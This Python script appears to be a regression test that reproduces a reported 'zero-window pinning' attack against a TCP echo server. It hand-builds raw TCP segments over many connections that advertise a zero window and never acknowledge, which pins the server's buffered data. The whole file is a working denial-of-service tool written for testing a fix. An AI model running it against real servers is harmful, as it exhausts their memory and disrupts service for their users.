#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""The zero-window pinning attack of issue 18, on raw sockets (runs inside
the test's namespace; the caller makes iptables drop the kernel's own RSTs
from the source ports used here, since the kernel knows no socket for them).

  echo_pin_attack.py --dst IP --src IP [--port 7] [--conns 48]
                     [--bytes 588000] [--sport 21000] [--push-timeout 20]

Each connection: SYN (MSS 1460, window scale 7, no SACK or timestamps), the
handshake's ACK, then data, as much as the server's window lets through, up
to --bytes, every segment advertising a zero window and acknowledging only
the SYN-ACK, so nothing the echo queues can ever be sent or freed. A
connection whose data stops being acknowledged for a second or more has
been resent from the server's ACK (go back N) and is left once nothing
moved for 2 s (the server's window is shut). Then the script exits: never
an ACK or an answer to a probe again. Prints one line per connection state
and the totals; exit 1 when no connection completed its handshake.
"""
import argparse
import os
import random
import select
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


SYN, RST, PSH, ACK = 0x02, 0x04, 0x08, 0x10


class Conn:
    def __init__(self, sport):
        self.sport = sport
        self.iss = random.getrandbits(32)
        self.state = "syn"
        self.irs = 0
        self.una = self.nxt = (self.iss + 1) & 0xFFFFFFFF
        self.wnd = 0
        self.wscale = 0
        self.mss = 536
        self.last_move = time.monotonic()
        self.done = False

    def acked(self):
        return (self.una - self.iss - 1) & 0xFFFFFFFF


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--dst", required=True)
    p.add_argument("--src", required=True)
    p.add_argument("--port", type=int, default=7)
    p.add_argument("--conns", type=int, default=48)
    p.add_argument("--bytes", type=int, default=588000)
    p.add_argument("--sport", type=int, default=21000)
    p.add_argument("--push-timeout", type=float, default=20)
    a = p.parse_args()

    src, dst = socket.inet_aton(a.src), socket.inet_aton(a.dst)
    sk = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    sk.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    sk.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
    sk.setblocking(False)
    payload = os.urandom(1 << 16)

    def send(c, flags, seq, data=b"", opts=b"", win=0):
        off = (20 + len(opts)) // 4
        hdr = struct.pack("!HHIIBBHHH", c.sport, a.port, seq, c.irs_ack() if flags & ACK else 0,
                          off << 4, flags, win, 0, 0) + opts
        pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(hdr) + len(data))
        ck = csum(pseudo + hdr + data)
        seg = hdr[:16] + struct.pack("!H", ck) + hdr[18:] + data
        while True:
            try:
                sk.sendto(seg, (a.dst, 0))
                return
            except BlockingIOError:
                select.select([], [sk], [], 0.01)

    Conn.irs_ack = lambda c: (c.irs + 1) & 0xFFFFFFFF
    conns = {a.sport + i: Conn(a.sport + i) for i in range(a.conns)}
    syn_opts = struct.pack("!BBH", 2, 4, 1460) + struct.pack("!BBBB", 1, 3, 3, 7)
    for c in conns.values():
        send(c, SYN, c.iss, opts=syn_opts, win=65535)

    def on_segment(pkt):
        ihl = (pkt[0] & 0x0F) * 4
        if pkt[12:16] != dst or pkt[9] != socket.IPPROTO_TCP:
            return
        t = pkt[ihl:]
        sport, dport, seq, ack, offb, flags, win = struct.unpack("!HHIIBBH", t[:16])
        c = conns.get(dport)
        if sport != a.port or c is None:
            return
        if flags & RST:
            c.state = "reset"
            c.done = True
            return
        if c.state == "syn" and flags & SYN and flags & ACK:
            c.irs = seq
            opts = t[20 : (offb >> 4) * 4]
            i = 0
            while i < len(opts):
                kind = opts[i]
                if kind == 0:
                    break
                if kind == 1:
                    i += 1
                    continue
                if i + 1 >= len(opts) or opts[i + 1] < 2:
                    break
                if kind == 2 and opts[i + 1] == 4:
                    c.mss = struct.unpack("!H", opts[i + 2 : i + 4])[0]
                elif kind == 3 and opts[i + 1] == 3:
                    c.wscale = opts[i + 2]
                i += opts[i + 1]
            c.state = "est"
            c.wnd = win << c.wscale
            c.last_move = time.monotonic()
            send(c, ACK, c.una)  # the handshake's ACK, window 0
            return
        if c.state == "est" and flags & ACK:
            d = (ack - c.una) & 0xFFFFFFFF
            if 0 < d <= (c.nxt - c.una) & 0xFFFFFFFF:
                c.una = ack
                c.last_move = time.monotonic()
            c.wnd = win << c.wscale

    t0 = time.monotonic()
    deadline = t0 + a.push_timeout
    while time.monotonic() < deadline:
        # Take in everything that arrived.
        while True:
            try:
                pkt = sk.recv(65535)
            except BlockingIOError:
                break
            on_segment(pkt)
        now = time.monotonic()
        busy = False
        for c in conns.values():
            if c.done:
                continue
            if c.state == "syn":
                if now - c.last_move > 1.0:
                    send(c, SYN, c.iss, opts=syn_opts, win=65535)
                    c.last_move = now
                busy = True
                continue
            if c.state != "est":
                continue
            if c.acked() >= a.bytes:
                c.done = True
                continue
            if now - c.last_move > 2.0:
                c.done = True  # the server takes nothing more
                continue
            if now - c.last_move > 1.0 and c.nxt != c.una:
                c.nxt = c.una  # go back N: resend from what the server acked
            end = min(a.bytes, c.acked() + c.wnd)
            sent = (c.nxt - c.iss - 1) & 0xFFFFFFFF
            burst = 0
            while sent < end and burst < 16:
                n = min(c.mss, end - sent)
                off = sent % (len(payload) - 2048)
                send(c, ACK | PSH, c.nxt, payload[off : off + n])
                c.nxt = (c.nxt + n) & 0xFFFFFFFF
                sent += n
                burst += 1
            busy = True
        if not busy:
            break
        select.select([sk], [], [], 0.002)

    states = {}
    for c in conns.values():
        states[c.state] = states.get(c.state, 0) + 1
    est = [c for c in conns.values() if c.state == "est"]
    got = sorted(c.acked() for c in est)
    print(
        f"pin: {len(conns)} connections {states}; data acked per connection"
        f" min {got[0] if got else 0} max {got[-1] if got else 0}"
        f" total {sum(got)} B in {time.monotonic() - t0:.1f} s; now silent"
    )
    if not est:
        print("pin: FAIL: no connection got past its SYN", file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
